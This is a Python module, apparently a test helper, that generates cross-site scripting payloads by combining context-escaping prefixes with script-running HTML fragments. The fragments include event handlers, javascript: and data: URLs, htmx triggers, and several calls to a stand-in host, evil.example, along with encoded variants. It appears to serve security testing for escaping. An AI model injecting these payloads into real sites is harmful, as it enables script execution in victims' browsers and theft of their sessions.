"""Texts that would run script if a page wrote them as they are, made here from parts.

Each is a way out of the place where a text stands (an attribute, a comment, a title, a script)
followed by something that runs by itself. Whatever of it becomes an element is marked `xss`.
"""

from __future__ import annotations

from collections.abc import Iterator

# Ways out of where a text may stand, and ways to look like something else on the way in.
OUT = (
    "", '"', "'", '">', "'>", "` ", "-->", "]]>", "</title>", "</textarea>", "</script>",
    "</style>", "</option></select>", "</svg>", "\\'", "\\\\\">", "{{", "&quot;>",
)  # fmt: skip
RUNS = (
    "<script xss>alert(1)</script>",
    "<ScRiPt xss src=//evil.example/x></sCrIpT>",
    "<script xss src=/static/js/none.js></script>",
    "<img xss src=none onerror=alert(1)>",
    "<img/xss/src=none/onerror=alert(1)//",
    "<svg xss onload=alert(1)>",
    "<svg xss><script>alert(1)</script></svg>",
    "<svg xss><animate onbegin=alert(1) attributeName=x>",
    "<math xss><mi xlink:href=javascript:alert(1)>x",
    "<iframe xss srcdoc='<script>alert(1)</script>'>",
    "<iframe xss src=javascript:alert(1)>",
    "<object xss data=javascript:alert(1)>",
    "<embed xss src=//evil.example/x.swf>",
    "<link xss rel=stylesheet href=//evil.example/x.css>",
    "<style xss>@import'//evil.example/x.css'</style>",
    "<base xss href=//evil.example/>",
    "<meta xss http-equiv=refresh content='0;url=//evil.example'>",
    "<body xss onload=alert(1)>",
    "<input xss autofocus onfocus=alert(1)>",
    "<details xss open ontoggle=alert(1)>",
    "<video xss><source onerror=alert(1)></video>",
    "<audio xss src=none onerror=alert(1)>",
    "<form xss action=javascript:alert(1)><button autofocus>",
    "<a xss href=javascript:alert(1)>x</a>",
    "<a xss href='&#106;avascript:alert(1)'>x</a>",
    "<div xss hx-get=//evil.example hx-trigger=load>",
    "<div xss hx-get=/settings hx-trigger=load hx-target=body>",
    "<div xss hx-on:htmx:load=alert(1)>",
    "<copy-button xss><input><button></button></copy-button>",
    "<dialog xss class=sheet open data-modal>x</dialog>",
    " xss autofocus onfocus=alert(1) x=",
    " xss style=background:url(//evil.example) x=",
)
IN_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "//evil.example/",
    "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)", "\\\\evil.example",
)  # fmt: skip


def texts() -> list[str]:
    """All of them, each another one."""
    return list(dict.fromkeys(_made()))


def bundles(size: int) -> list[str]:
    """All of them, `size` to a text, for places that hold one long text each."""
    found = texts()
    return [" ".join(found[at : at + size]) for at in range(0, len(found), size)]


def _made() -> Iterator[str]:
    for runs in RUNS:
        for out in OUT:
            yield out + runs
    yield from IN_ADDRESSES
    for runs in RUNS[:8]:
        yield runs.replace("<", "&lt;").replace(">", "&gt;")  # would run if it were read twice
        yield runs.replace("<", "%3C").replace(">", "%3E")
        yield runs.replace("<", "\\u003c")
        yield runs.replace("<", "＜")  # a wide one, which some databases make narrow
